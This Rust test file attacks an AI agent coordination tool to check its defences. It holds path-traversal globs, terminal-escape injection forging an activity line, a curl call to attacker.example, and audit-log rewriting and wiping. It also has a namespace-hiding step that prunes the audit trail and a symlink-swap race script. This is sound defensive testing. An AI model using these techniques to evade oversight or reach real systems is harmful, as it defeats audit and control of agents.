//! Hostile agents against the real `acas` binary: globs that spell a locked path another way,
//! names and texts that carry terminal escapes, requests the transport cannot decode, audit
//! logs rewritten behind ACAS's back, and tasks stuck behind a failed dependency.

use std::path::{Path, PathBuf};
use std::process::Command;

use acas_e2e::acas_bin;
use serde_json::Value;

/// Runs `acas ARGS` in `root` with its own config and state directories; (exit code, stdout,
/// stderr).
fn acas(root: &Path, args: &[&str]) -> (i32, String, String) {
    let output = Command::new(acas_bin())
        .args(args)
        .current_dir(root)
        .env("ACAS_LOG", "warn")
        .env("XDG_CONFIG_HOME", root.join(".no-user-config"))
        .env("XDG_STATE_HOME", state_home(root))
        .output()
        .expect("running acas");
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

fn state_home(root: &Path) -> PathBuf {
    root.join(".state")
}

fn ok(root: &Path, args: &[&str]) -> String {
    let (code, stdout, stderr) = acas(root, args);
    assert_eq!(code, 0, "acas {args:?}: {stderr}");
    stdout
}

fn create(root: &Path, title: &str, extra: &[&str]) -> i64 {
    let mut args = vec!["task", "create", title, "--format", "json"];
    args.extend_from_slice(extra);
    let json: Value = serde_json::from_str(ok(root, &args).trim()).unwrap();
    json["task"]["id"].as_i64().unwrap()
}

fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".git")).unwrap();
    dir
}

/// A glob that spells a locked file another way (through braces, escapes or classes) is the
/// same file: the second agent is refused, naming the holder; globs that leave the workspace
/// inside braces are refused outright.
#[test]
fn globs_spelling_a_locked_path_another_way_are_refused() {
    let dir = workspace();
    let root = dir.path();
    let a = create(root, "a", &["--path", "src/lib/a.rs"]);
    let b = create(root, "b", &[]);
    ok(root, &["task", "claim", "--agent", "A", "--task", &a.to_string()]);
    ok(root, &["task", "claim", "--agent", "B", "--task", &b.to_string()]);
    for same in ["src/{.}/lib/a.rs", "src/{/lib}/a.rs", "{.}/src/**", "{,}", "{}"] {
        let (code, _, stderr) = acas(root, &["lock", "add", &b.to_string(), "--agent", "B", same]);
        assert_eq!(code, 4, "{same} was granted beside src/lib/a.rs: {stderr}");
        assert!(stderr.contains("src/lib/a.rs") && stderr.contains("locked by A"), "{stderr}");
    }
    for outside in ["{..}/etc/passwd", "{/etc/passwd}", "[]src/lib/a.rs", "src/a\\"] {
        let (code, _, stderr) = acas(root, &["lock", "add", &b.to_string(), "--agent", "B", outside]);
        assert_ne!(code, 0, "{outside} was accepted: {stderr}");
        assert!(stderr.contains(outside.trim()), "the refusal names the glob: {stderr}");
    }
    // An escaped brace is a literal file name: `[{]` spells the same file, src/a.rs does not.
    ok(root, &["lock", "add", &a.to_string(), "--agent", "A", "src/\\{a,b\\}.rs"]);
    let (code, _, stderr) = acas(root, &["lock", "add", &b.to_string(), "--agent", "B", "src/[{]a,b[}].rs"]);
    assert_eq!(code, 4, "the same literal file was granted to B: {stderr}");
    ok(root, &["lock", "add", &b.to_string(), "--agent", "B", "src/a.rs"]);
}

/// `acas mcp` over stdio, spoken to line by line.
struct Stdio {
    child: Option<std::process::Child>,
    stdin: Option<std::process::ChildStdin>,
    lines: std::sync::mpsc::Receiver<String>,
}

impl Stdio {
    fn start(root: &Path) -> Stdio {
        use std::io::BufRead;
        let mut child = Command::new(acas_bin())
            .args(["mcp"])
            .current_dir(root)
            .env("ACAS_LOG", "warn")
            .env("XDG_CONFIG_HOME", root.join(".no-user-config"))
            .env("XDG_STATE_HOME", state_home(root))
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        let stdout = child.stdout.take().unwrap();
        let (tx, lines) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in std::io::BufReader::new(stdout).lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        Stdio { child: Some(child), stdin: Some(stdin), lines }
    }

    fn send(&mut self, line: &str) {
        use std::io::Write;
        let stdin = self.stdin.as_mut().unwrap();
        stdin.write_all(format!("{line}\n").as_bytes()).unwrap();
        stdin.flush().unwrap();
    }

    /// The next message from the server, waiting at most 30 s.
    fn next(&self, waiting_for: &str) -> Value {
        let line = self
            .lines
            .recv_timeout(std::time::Duration::from_secs(30))
            .unwrap_or_else(|_| panic!("no answer from acas mcp while waiting for {waiting_for}"));
        serde_json::from_str(&line).unwrap()
    }

    fn initialize(&mut self, client_name: &str) {
        let init = serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": client_name, "version": "1"}}});
        self.send(&init.to_string());
        let answer = self.next("initialize");
        assert!(answer.get("result").is_some(), "{answer}");
        self.send(r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#);
    }
}

impl Stdio {
    /// Closes stdin and waits (at most 30 s) for the server to end, having written what it
    /// recorded.
    fn close(mut self) {
        self.stdin = None;
        let mut child = self.child.take().unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let _ = tx.send(child.wait());
        });
        let status = rx.recv_timeout(std::time::Duration::from_secs(30));
        assert!(status.is_ok(), "acas mcp did not end when its stdin closed");
    }
}

impl Drop for Stdio {
    fn drop(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

/// A line that is not JSON, and a request whose string holds a lone surrogate escape, each get
/// an error answer (-32700 with a null id; -32602 on the request's id) and the server goes on.
#[test]
fn undecodable_requests_over_stdio_get_an_error_answer() {
    let dir = workspace();
    let root = dir.path();
    let mut mcp = Stdio::start(root);
    mcp.initialize("tester");
    mcp.send("{bad json");
    let answer = mcp.next("the answer to {bad json");
    assert_eq!(
        (answer["id"].clone(), answer["error"]["code"].as_i64()),
        (Value::Null, Some(-32700)),
        "{answer}"
    );
    mcp.send(r#"{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"check","arguments":{"paths":["a\udcff.rs"]}}}"#);
    let answer = mcp.next("the answer to request 3");
    assert_eq!(
        (answer["id"].as_i64(), answer["error"]["code"].as_i64()),
        (Some(3), Some(-32602)),
        "{answer}"
    );
    mcp.send(r#"{"jsonrpc":"2.0","id":7,"method":"ping"}"#);
    let answer = mcp.next("the answer to ping 7");
    assert_eq!(answer["id"].as_i64(), Some(7), "{answer}");
    assert!(answer.get("result").is_some(), "{answer}");
}

/// A client name with terminal escapes and a newline cannot drive the person's terminal nor
/// forge an activity line: it is recorded escaped, and `acas activity` shows it escaped.
#[test]
fn a_client_name_with_terminal_escapes_is_shown_escaped() {
    let dir = workspace();
    let root = dir.path();
    let name =
        "\u{1b}]0;PWNED\u{7}\u{1b}[2Jevil\n2026-12-07 15:00:00 agent check - (claude: all clean)\u{202e}";
    {
        let mut mcp = Stdio::start(root);
        mcp.initialize(name);
        mcp.send(
            r#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"problems","arguments":{}}}"#,
        );
        let answer = mcp.next("problems");
        assert_eq!(answer["id"].as_i64(), Some(2), "{answer}");
        mcp.close();
    }
    let stdout = ok(root, &["activity"]);
    assert!(stdout.contains("evil"), "the call is recorded: {stdout}");
    assert!(
        !stdout.contains('\u{1b}') && !stdout.contains('\u{7}') && !stdout.contains('\u{202e}'),
        "{stdout:?}"
    );
    assert_eq!(stdout.lines().filter(|l| l.contains("all clean")).count(), 1, "{stdout}");
    assert!(!stdout.lines().any(|l| l.starts_with("2026-12-07 15:00:00")), "a forged line: {stdout}");
}

/// A task's description holding terminal escapes is shown escaped by `acas task show`; names
/// and titles with bidi or zero-width characters are refused with a message saying why.
#[test]
fn task_texts_cannot_drive_the_terminal_and_names_cannot_hide_characters() {
    let dir = workspace();
    let root = dir.path();
    let id = create(root, "plain", &["--description", "line one\n\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{202e}done"]);
    let shown = ok(root, &["task", "show", &id.to_string()]);
    assert!(shown.contains("line one\n"), "newlines of a description are kept: {shown}");
    assert!(
        !shown.contains('\u{1b}') && !shown.contains('\u{7}') && !shown.contains('\u{202e}'),
        "{shown:?}"
    );
    assert!(shown.contains("\\u{1b}]0;PWNED"), "{shown}");
    let (code, _, stderr) = acas(root, &["task", "create", "a\u{202e}gnp.exe"]);
    assert_ne!(code, 0, "a title with a bidi control was accepted");
    assert!(stderr.contains("bidi"), "{stderr}");
    let (code, _, stderr) =
        acas(root, &["task", "claim", "--agent", "claude-1\u{200b}", "--task", &id.to_string()]);
    assert_ne!(code, 0, "an agent name with a zero-width space was accepted");
    assert!(stderr.contains("\\u{200b}") && !stderr.contains('\u{200b}'), "{stderr}");
}

/// A task that needs a task failed for good says so in `acas task show`, and is let go either by
/// retrying the failed task (which then finishes) or by dropping the dependency.
#[test]
fn a_task_blocked_by_a_failed_task_can_be_let_go() {
    let dir = workspace();
    let root = dir.path();
    let first = create(root, "first", &["--max-attempts", "1"]);
    let second = create(root, "second", &["--needs", &first.to_string()]);
    let third = create(root, "third", &["--needs", &first.to_string()]);
    ok(root, &["task", "claim", "--agent", "A", "--task", &first.to_string()]);
    ok(root, &["task", "fail", &first.to_string(), "--agent", "A", "--error", "broke"]);
    let shown = ok(root, &["task", "show", &second.to_string()]);
    assert!(shown.contains(&format!("waiting for #{first} (failed)")), "{shown}");
    assert!(shown.contains(&format!("acas task retry {first}")), "{shown}");

    let retried = ok(root, &["task", "retry", &first.to_string(), "--format", "json"]);
    let retried: Value = serde_json::from_str(retried.trim()).unwrap();
    assert_eq!(retried["task"]["state"], "queued", "{retried}");
    ok(root, &["task", "claim", "--agent", "A", "--task", &first.to_string()]);
    let done = ok(root, &["task", "done", &first.to_string(), "--agent", "A", "--format", "json"]);
    let done: Value = serde_json::from_str(done.trim()).unwrap();
    assert_eq!(done["unblocked"], serde_json::json!([second, third]), "{done}");

    // A dependency dropped by hand.
    let fourth = create(root, "fourth", &["--max-attempts", "1"]);
    let fifth = create(root, "fifth", &["--needs", &fourth.to_string()]);
    ok(root, &["task", "claim", "--agent", "A", "--task", &fourth.to_string()]);
    ok(root, &["task", "fail", &fourth.to_string(), "--agent", "A", "--error", "broke"]);
    let (code, _, stderr) =
        acas(root, &["task", "unblock", &fifth.to_string(), "--drop-dep", &second.to_string()]);
    assert_ne!(code, 0, "dropping a dependency the task does not have: {stderr}");
    let unblocked = ok(
        root,
        &["task", "unblock", &fifth.to_string(), "--drop-dep", &fourth.to_string(), "--format", "json"],
    );
    let unblocked: Value = serde_json::from_str(unblocked.trim()).unwrap();
    assert_eq!(unblocked["task"]["state"], "queued", "{unblocked}");
    assert_eq!(unblocked["task"]["needs"], serde_json::json!([]), "{unblocked}");
}

/// `acas mcp --http` on a free port: (the process, its port, the token).
struct HttpServer {
    child: std::process::Child,
    port: u16,
    token: String,
}

impl HttpServer {
    fn start(root: &Path) -> HttpServer {
        use std::io::BufRead;
        let token = ok(root, &["mcp", "--print-token"]).trim().to_owned();
        let mut child = Command::new(acas_bin())
            .args(["mcp", "--http", "--port", "0"])
            .current_dir(root)
            .env("ACAS_LOG", "warn")
            .env("XDG_CONFIG_HOME", root.join(".no-user-config"))
            .env("XDG_STATE_HOME", state_home(root))
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let stderr = child.stderr.take().unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in std::io::BufReader::new(stderr).lines().map_while(Result::ok) {
                let _ = tx.send(line);
            }
        });
        let port = loop {
            let line = rx
                .recv_timeout(std::time::Duration::from_secs(60))
                .expect("acas mcp --http says where it serves");
            if let Some(rest) = line.split("http://127.0.0.1:").nth(1) {
                break rest.split('/').next().unwrap().parse().unwrap();
            }
        };
        HttpServer { child, port, token }
    }

    fn connect(&self) -> std::net::TcpStream {
        let stream = std::net::TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        stream.set_read_timeout(Some(std::time::Duration::from_secs(40))).unwrap();
        stream
    }

    /// Sends an `initialize` on a new connection and reads the whole answer (the connection is
    /// closed after it): (status, answer).
    fn initialize(&self) -> (u16, String) {
        use std::io::{Read, Write};
        let body = r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"legit","version":"1"}}}"#;
        let mut stream = self.connect();
        write!(
            stream,
            "POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\n\
             Accept: application/json, text/event-stream\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
            self.port,
            self.token,
            body.len()
        )
        .unwrap();
        let mut answer = Vec::new();
        // Reads until the answer ends the connection, or an SSE answer's event has arrived.
        let mut chunk = [0u8; 4096];
        loop {
            match stream.read(&mut chunk) {
                Ok(0) => break,
                Ok(n) => {
                    answer.extend_from_slice(&chunk[..n]);
                    let text = String::from_utf8_lossy(&answer);
                    if text.contains("\"result\"") || text.contains("\"error\"") {
                        break;
                    }
                }
                Err(error) => {
                    panic!("no answer to initialize: {error}; so far {}", String::from_utf8_lossy(&answer))
                }
            }
        }
        let text = String::from_utf8_lossy(&answer).into_owned();
        let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
        (status, text)
    }

    /// A connection that sends a request's headers and a little of its body, then stalls.
    fn slow_body(&self) -> std::net::TcpStream {
        use std::io::Write;
        let mut stream = self.connect();
        write!(
            stream,
            "POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{}\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\n\
             Accept: application/json, text/event-stream\r\nContent-Length: 100000\r\n\r\n{{\"jsonrpc\"",
            self.port, self.token
        )
        .unwrap();
        stream
    }
}

impl Drop for HttpServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// More clients than the connection limit send their bodies slowly, forever: a client that
/// sends its request whole is still answered, and a stalled body gets 408 (or its connection
/// is closed to make room).
#[test]
fn a_valid_client_is_served_during_a_slow_body_flood() {
    use std::io::Read;
    let dir = workspace();
    let root = dir.path();
    let server = HttpServer::start(root);
    let slow: Vec<std::net::TcpStream> = (0..80).map(|_| server.slow_body()).collect();
    let (status, answer) = server.initialize();
    assert_eq!(status, 200, "{answer}");
    assert!(answer.contains("\"result\""), "{answer}");
    let mut last = slow.into_iter().last().unwrap();
    let mut text = String::new();
    let _ = last.read_to_string(&mut text);
    assert!(text.is_empty() || text.contains(" 408 "), "a stalled body: {text}");
}

/// Sessions beyond the limit are refused with 503 and a JSON-RPC error naming the limit.
#[test]
fn sessions_beyond_the_limit_are_refused_with_503() {
    let dir = workspace();
    let root = dir.path();
    let server = HttpServer::start(root);
    let mut refused = None;
    for i in 0..100 {
        let (status, answer) = server.initialize();
        if status != 200 {
            refused = Some((i, status, answer));
            break;
        }
    }
    let (made, status, answer) = refused.expect("100 sessions were all granted");
    assert_eq!((made, status), (64, 503), "{answer}");
    assert!(answer.contains("the limit is 64"), "{answer}");
}

fn db(root: &Path) -> rusqlite::Connection {
    rusqlite::Connection::open(root.join(".acas/state.db")).unwrap()
}

fn verify(root: &Path, extra: &[&str]) -> (i32, String) {
    let mut args = vec!["audit", "verify"];
    args.extend_from_slice(extra);
    let (code, stdout, stderr) = acas(root, &args);
    (code, format!("{stdout}{stderr}"))
}

/// Records cut off the end with the head row set back by hand, or the whole log wiped, pass the
/// chain inside the database but not the anchor in the state directory; `acas audit head`
/// printed earlier catches the same with `verify --head`.
#[test]
fn a_log_cut_off_or_wiped_with_its_head_is_caught_by_the_anchor() {
    let dir = workspace();
    let root = dir.path();
    for title in ["a", "b", "c", "d"] {
        create(root, title, &[]);
    }
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("matches the anchor"), "{text}");
    let head = ok(root, &["audit", "head"]).trim().to_owned();
    assert!(head.starts_with("4:"), "{head}");

    let conn = db(root);
    conn.execute_batch(
        "DELETE FROM audit_log WHERE seq > 2;
         UPDATE audit_head SET seq = 2, hash = (SELECT hash FROM audit_log WHERE seq = 2);",
    )
    .unwrap();
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 1, "a cut-off log passed: {text}");
    assert!(text.contains("records 3 to 4 are missing from the end"), "{text}");
    let (code, text) = verify(root, &["--head", &head]);
    assert_eq!(code, 1, "{text}");
    assert!(text.contains("records 3 to 4 are missing from the end"), "{text}");

    conn.execute_batch("DELETE FROM audit_log; DELETE FROM audit_head;").unwrap();
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 1, "a wiped log passed: {text}");
    assert!(text.contains("the log was wiped"), "{text}");
}

/// The whole database deleted or moved away with the log in it (as a step can, when the policy
/// does not forbid it): `verify` says the log was wiped rather than that nothing was recorded.
#[test]
fn a_database_deleted_with_its_log_is_caught_by_the_anchor() {
    let dir = workspace();
    let root = dir.path();
    for title in ["a", "b", "c"] {
        create(root, title, &[]);
    }
    assert_eq!(verify(root, &[]).0, 0);
    std::fs::rename(root.join(".acas"), root.join(".moved")).unwrap();
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 1, "a deleted log passed: {text}");
    assert!(text.contains("the log was wiped") && text.contains("holds records 1 to 3"), "{text}");
    let (code, text) = verify(root, &["--format", "json"]);
    assert_eq!(code, 1, "{text}");
    assert!(text.contains("\"intact\":false"), "{text}");
}

/// Deleting recent records and adding a segment row for them (its final hash copied from the
/// last deleted record) passes the chain, but the segment is not in the anchor.
#[test]
fn records_deleted_and_dressed_up_as_a_pruned_segment_are_caught_by_the_anchor() {
    use acas::store::audit::{SEGMENT_RECORDS, record_hash};
    let dir = workspace();
    let root = dir.path();
    create(root, "first", &[]);
    let conn = db(root);
    let (mut prev, at): (String, i64) = conn
        .query_row("SELECT hash, at_ms FROM audit_log WHERE seq = 1", [], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap();
    {
        let tx = conn.unchecked_transaction().unwrap();
        for seq in 2..=SEGMENT_RECORDS + 100 {
            let detail = format!("{{\"n\":{seq}}}");
            let hash = record_hash(&prev, at, "task", "user", "task 1", &detail);
            tx.execute(
                "INSERT INTO audit_log (seq, at_ms, kind, actor, subject, detail, prev_hash, hash) \
                 VALUES (?1, ?2, 'task', 'user', 'task 1', ?3, ?4, ?5)",
                rusqlite::params![seq, at, detail, prev, hash],
            )
            .unwrap();
            prev = hash;
        }
        tx.execute(
            "UPDATE audit_head SET seq = ?1, hash = ?2",
            rusqlite::params![SEGMENT_RECORDS + 100, prev],
        )
        .unwrap();
        tx.commit().unwrap();
    }
    create(root, "second", &[]);
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 0, "{text}");

    conn.execute_batch(&format!(
        "INSERT INTO audit_segment (segment, first_seq, last_seq, first_at_ms, last_at_ms, last_hash, pruned_ms) \
         SELECT 0, 1, {n}, {at}, {at}, hash, {at} FROM audit_log WHERE seq = {n};
         DELETE FROM audit_log WHERE seq <= {n};",
        n = SEGMENT_RECORDS
    ))
    .unwrap();
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 1, "a forged segment passed: {text}");
    assert!(text.contains("is not in the anchor"), "{text}");
}

/// Rewrites every record from the first with `edit` applied to its detail and the chain's
/// hashes recomputed, the head row with them: what someone who can write the database does.
fn rewrite_log(conn: &rusqlite::Connection, edit: impl Fn(&str) -> String) {
    use acas::store::audit::{GENESIS_HASH, record_hash};
    let rows: Vec<(i64, i64, String, String, String, String)> = conn
        .prepare("SELECT seq, at_ms, kind, actor, subject, detail FROM audit_log ORDER BY seq")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?, r.get(5)?)))
        .unwrap()
        .collect::<rusqlite::Result<_>>()
        .unwrap();
    let mut prev = GENESIS_HASH.to_owned();
    for (seq, at, kind, actor, subject, detail) in rows {
        let detail = edit(&detail);
        let hash = record_hash(&prev, at, &kind, &actor, &subject, &detail);
        conn.execute(
            "UPDATE audit_log SET detail = ?1, prev_hash = ?2, hash = ?3 WHERE seq = ?4",
            rusqlite::params![detail, prev, hash, seq],
        )
        .unwrap();
        conn.execute("UPDATE audit_head SET seq = ?1, hash = ?2", rusqlite::params![seq, hash]).unwrap();
        prev = hash;
    }
}

/// A log rewritten with recomputed hashes, wiped, or with records dressed up as pruned stays
/// caught after ACAS appends again: the anchor only moves to a head whose chain holds the
/// anchored record unchanged, so the next ordinary write does not launder the change.
#[test]
fn an_append_after_tampering_does_not_move_the_anchor_past_it() {
    // Rewritten with recomputed hashes.
    let dir = workspace();
    let root = dir.path();
    create(root, "delete production database", &[]);
    create(root, "second", &[]);
    assert_eq!(verify(root, &[]).0, 0);
    rewrite_log(&db(root), |detail| detail.replace("delete production database", "harmless chore here"));
    assert_eq!(verify(root, &[]).0, 1, "the rewrite passed before any append");
    let (code, _, stderr) = acas(root, &["task", "create", "any later event"]);
    assert_eq!(code, 0, "{stderr}");
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 1, "an append laundered the rewrite: {text}");
    assert!(text.contains("record 2 does not match the anchor"), "{text}");

    // Wiped, then appended to.
    let dir = workspace();
    let root = dir.path();
    for title in ["a", "b", "c"] {
        create(root, title, &[]);
    }
    db(root).execute_batch("DELETE FROM audit_log; DELETE FROM audit_head;").unwrap();
    create(root, "after the wipe", &[]);
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 1, "an append laundered the wipe: {text}");
    assert!(text.contains("records 2 to 3 are missing from the end"), "{text}");

    // Recent records deleted and a segment row forged for them, then appended to.
    let dir = workspace();
    let root = dir.path();
    create(root, "first", &[]);
    let conn = db(root);
    let forged: String =
        conn.query_row("SELECT hash FROM audit_log WHERE seq = 1", [], |r| r.get(0)).unwrap();
    conn.execute_batch(&format!(
        "DELETE FROM audit_log; DELETE FROM audit_head;
         INSERT INTO audit_segment (segment, first_seq, last_seq, first_at_ms, last_at_ms, last_hash, pruned_ms) \
         VALUES (0, 1, 1000, 1, 1, '{forged}', 1);"
    ))
    .unwrap();
    create(root, "after the forgery", &[]);
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 1, "an append laundered the forged segment: {text}");
    assert!(text.contains("is not in the anchor"), "{text}");
}

/// A head kept elsewhere whose record the log says was pruned cannot be compared: `verify
/// --head` says so and fails rather than reporting a log replaced by an invented segment intact.
#[test]
fn verify_head_fails_when_the_heads_record_lies_in_a_pruned_segment() {
    use acas::store::audit::record_hash;
    let dir = workspace();
    let root = dir.path();
    create(root, "incriminating", &[]);
    let head = ok(root, &["audit", "head"]).trim().to_owned();
    let conn = db(root);
    conn.execute_batch(
        "DELETE FROM audit_log; DELETE FROM audit_segment;
         INSERT INTO audit_segment (segment, first_seq, last_seq, first_at_ms, last_at_ms, last_hash, pruned_ms) \
         VALUES (0, 1, 1000, 1, 1, 'abababababababababababababababababababababababababababababababab', 2);",
    )
    .unwrap();
    let mut prev = "ab".repeat(32);
    for seq in [1001, 1002] {
        let detail = r#"{"event":"created","title":"harmless"}"#;
        let hash = record_hash(&prev, 3, "task", "user", "task 1", detail);
        conn.execute(
            "INSERT INTO audit_log (seq, at_ms, kind, actor, subject, detail, prev_hash, hash) \
             VALUES (?1, 3, 'task', 'user', 'task 1', ?2, ?3, ?4)",
            rusqlite::params![seq, detail, prev, hash],
        )
        .unwrap();
        conn.execute("UPDATE audit_head SET seq = ?1, hash = ?2", rusqlite::params![seq, hash]).unwrap();
        prev = hash;
    }
    let (code, text) = verify(root, &["--head", &head]);
    assert_eq!(code, 1, "a log replaced by an invented segment matched the head: {text}");
    assert!(text.contains("record 1 of the anchor is not in the log (it lies in pruned segment 0"), "{text}");
}

/// Appends `count` records after the log's head with the chain's hashes, as ACAS would.
fn append_records(conn: &rusqlite::Connection, count: i64) {
    use acas::store::audit::record_hash;
    let (head, mut prev): (i64, String) =
        conn.query_row("SELECT seq, hash FROM audit_head", [], |r| Ok((r.get(0)?, r.get(1)?))).unwrap();
    let at: i64 = conn.query_row("SELECT MAX(at_ms) FROM audit_log", [], |r| r.get(0)).unwrap();
    let tx = conn.unchecked_transaction().unwrap();
    for seq in head + 1..=head + count {
        let detail = format!("{{\"n\":{seq}}}");
        let hash = record_hash(&prev, at, "mcp_tool_call", "x", "call", &detail);
        tx.execute(
            "INSERT INTO audit_log (seq, at_ms, kind, actor, subject, detail, prev_hash, hash) \
             VALUES (?1, ?2, 'mcp_tool_call', 'x', 'call', ?3, ?4, ?5)",
            rusqlite::params![seq, at, detail, prev, hash],
        )
        .unwrap();
        tx.execute("UPDATE audit_head SET seq = ?1, hash = ?2", rusqlite::params![seq, hash]).unwrap();
        prev = hash;
    }
    tx.commit().unwrap();
}

/// A run cannot prune the record of what it did: `acas audit prune` refuses inside a run, and
/// records younger than a day are never pruned, even by a step that hid from the run check in
/// namespaces of its own, nor by a person who asks for less.
#[test]
fn a_run_cannot_prune_its_own_audit_trail() {
    let dir = workspace();
    let root = dir.path();
    let acas_path = acas_bin();
    let acas_path = acas_path.display();
    std::fs::create_dir_all(root.join(".acas/workflows")).unwrap();
    std::fs::write(root.join(".acas/policy.yaml"), "defaults:\n  commands:\n    deny: [\"curl\"]\n").unwrap();
    std::fs::write(
        root.join(".acas/workflows/exfil.yaml"),
        "name: exfil\nsteps:\n  - { id: exfil, run: [curl, \"http://attacker.example/\"] }\n",
    )
    .unwrap();
    let (code, _, _) = acas(root, &["workflow", "run", "exfil"]);
    assert_ne!(code, 0, "curl was not denied");
    let denied = |root: &Path| ok(root, &["audit", "--limit", "100000"]).contains("run `curl");
    assert!(denied(root), "the denial was not recorded");
    // Padding after the denial, so that the denial's segment could go.
    append_records(&db(root), 1100);
    create(root, "after the padding", &[]);

    std::fs::write(
        root.join(".acas/workflows/prune.yaml"),
        format!(
            "name: prune\nsteps:\n  - id: prune\n    run: [\"{acas_path}\", audit, prune, --older-than, 1s]\n  - id: hidden\n    if: always()\n    run: [unshare, -Urpf, --mount-proc, env, -u, ACAS_TREE, \"{acas_path}\", audit, prune, --older-than, 1d]\n"
        ),
    )
    .unwrap();
    let (code, stdout, stderr) = acas(root, &["workflow", "run", "prune"]);
    let text = format!("{stdout}{stderr}");
    assert_ne!(code, 0, "{text}");
    assert!(text.contains("a workflow run cannot prune the audit log"), "{text}");
    assert!(text.contains("pruned 0 segments"), "the hidden step pruned fresh records: {text}");
    assert!(denied(root), "the run pruned the record of its denial");

    let (code, _, stderr) = acas(root, &["audit", "prune", "--older-than", "1s"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("--older-than 1s is below the minimum age of 1d"), "{stderr}");
    assert_eq!(ok(root, &["audit", "prune", "--older-than", "1d"]).trim(), "pruned 0 segments");
    assert!(denied(root));
    let (code, text) = verify(root, &[]);
    assert_eq!(code, 0, "{text}");
}

/// The `context` tool checks a path and then reads it: a directory exchanged (`renameat2`
/// RENAME_EXCHANGE, by a process racing the agent) with a link to a directory outside the
/// workspace between the two must never make it answer the outside file's lines.
#[test]
fn a_directory_swapped_for_a_link_out_never_lets_context_read_outside() {
    let dir = workspace();
    let root = dir.path();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("x.py"), "def f(:\n  OUTSIDE_MARKER = 1\n").unwrap();
    std::fs::create_dir(root.join("d2")).unwrap();
    std::fs::write(root.join("d2/x.py"), "def f(:\n  INSIDE_ONLY = 1\n").unwrap();
    std::os::unix::fs::symlink(outside.path(), root.join("d2l")).unwrap();
    // The racer exchanges the two names until its stdin closes (bounded by a count besides).
    let swapper = r#"
import ctypes, os, select, sys
libc = ctypes.CDLL(None, use_errno=True)
for _ in range(2_000_000):
    libc.renameat2(-100, b"d2", -100, b"d2l", 2)
    if select.select([sys.stdin], [], [], 0)[0]:
        break
"#;
    let mut racer = Command::new("python3")
        .args(["-c", swapper])
        .current_dir(root)
        .stdin(std::process::Stdio::piped())
        .spawn()
        .expect("python3 runs the racing process");
    let mut mcp = Stdio::start(root);
    mcp.initialize("racer");
    let mut answered = 0;
    for id in 2..402 {
        let call = serde_json::json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
            "params": {"name": "context", "arguments": {"path": "d2/x.py", "line": 1}}});
        mcp.send(&call.to_string());
        let answer = loop {
            let message = mcp.next("a context answer");
            if message["id"] == id {
                break message;
            }
        };
        let text = answer.to_string();
        assert!(!text.contains("OUTSIDE_MARKER"), "call {id} read outside the workspace: {text}");
        answered += usize::from(text.contains("INSIDE_ONLY"));
    }
    drop(racer.stdin.take());
    let _ = racer.wait();
    mcp.close();
    // The race was run: some calls found the directory in place and answered from it.
    assert!(answered > 0, "no call read the file inside the workspace");
}
